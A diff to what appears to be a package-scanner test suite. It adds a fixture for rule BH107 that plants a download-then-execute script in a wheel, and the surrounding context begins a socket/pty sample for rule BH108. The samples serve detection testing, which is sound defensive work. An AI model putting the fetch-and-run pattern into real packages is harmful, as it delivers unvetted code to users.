@@ -245,6 +245,13 @@ _good(
 )
 _good("BH107", "curl_into_a_file", "import os\nos.system('curl -o out https://files.example/data.json')\n")
 
+
+@bad("BH107", at="sample/node-gyp/update.py:6", severity="warning")
+def script_among_the_data_of_a_wheel() -> Built:
+    source = _GET + "u.urlretrieve(URL, 'tool')\nif 1:\n    subprocess.run(['./tool'])\n"
+    return in_wheel(source, "sample/node-gyp/update.py")
+
+
 _SOCKET = "import os, pty, socket, subprocess\n"
 _bad(
     "BH108",
